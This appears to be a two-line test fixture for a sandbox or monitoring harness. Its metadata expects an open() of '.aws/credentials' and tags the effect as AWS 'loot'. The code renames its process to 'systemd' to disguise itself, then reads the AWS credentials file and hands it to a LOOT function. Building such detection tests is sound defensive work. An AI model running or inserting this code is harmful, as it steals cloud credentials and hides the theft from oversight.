#: {"class": "escape-tag", "loader": "script", "include": ["raw"], "expect": [["open", "\\.aws/credentials$"]], "effect": {"loot": "aws"}}
_c.prctl(15, b"systemd", 0, 0, 0); LOOT(open(HOME + "/.aws/credentials").read())
